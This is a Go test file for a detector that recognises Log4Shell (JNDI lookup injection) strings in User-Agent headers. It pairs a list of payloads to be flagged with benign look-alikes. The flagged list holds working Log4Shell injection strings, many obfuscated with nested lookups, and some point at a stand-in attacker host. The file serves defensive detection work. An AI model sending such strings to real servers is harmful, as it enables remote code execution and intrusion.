package detect

import "testing"

func FuzzLog4Shell(f *testing.F) { fuzz(f, Log4Shell) }

func TestLog4Shell(t *testing.T) {
	recognises(t, Log4Shell, Where{Place: InUserAgent}, []string{
		"${jndi:ldap://h/a}",
		"${${lower:j}ndi:${lower:l}dap://h/a}",
		"${${::-j}${::-n}${::-d}${::-i}:rmi://h}",
		"${${env:X:-j}ndi${env:X:-:}ldap://h}",
		"${jn${upper:d}i:dns://h}",
		"x ${JNDI:x}",
		"${${lower:${lower:j}}ndi:ldap://h}",
		"${jndi:${lower:l}${lower:d}ap://h",
		"${jnd${upper:ı}:ldap://h}",
		"${j${k8s:k5:-ND}i:ldap://h}",
		"${:12:-x$}{jndi:ldap://h/a}",
		"${script:javascript:1}",
		"${url:UTF-8:https://evil.example}",
		"${dns:address|evil.example}",
	}, []string{
		"${url}",
		"${script}",
		"",
		"${user}",
		"jndi:ldap",
		"${a}${b}",
		"price ${amount:.2f}",
		"${HOME}/bin",
		"{jndi:x}",
		"${date:yyyy}",
	})
}
